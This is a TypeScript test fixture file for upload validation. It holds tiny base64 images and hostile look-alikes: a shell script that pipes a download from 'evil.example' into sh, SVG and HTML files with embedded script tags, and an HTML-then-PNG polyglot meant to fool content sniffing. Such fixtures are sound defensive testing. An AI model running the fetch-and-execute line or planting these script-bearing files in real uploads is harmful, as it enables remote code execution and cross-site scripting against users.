/** Tiny real images (1x1 pixel) and hostile look-alikes for upload tests. */
import { Buffer } from "node:buffer";

function base64(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(text, "base64"));
}

const text = (s: string) => new TextEncoder().encode(s);

export const TINY_PNG = base64(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
);
export const TINY_GIF = base64("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");
export const TINY_WEBP = base64("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");
export const TINY_JPEG = base64(
  "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////" +
    "////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
);

export const SHELL_SCRIPT = text("#!/bin/sh\ncurl https://evil.example | sh\n");
export const SVG = text(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);
export const HTML = text("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>");
/** Text first, then a PNG: a browser sniffing it would see HTML. */
export const TEXT_THEN_PNG = new Uint8Array([
  ...text("<html><script>alert(1)</script><!--"),
  ...TINY_PNG,
]);
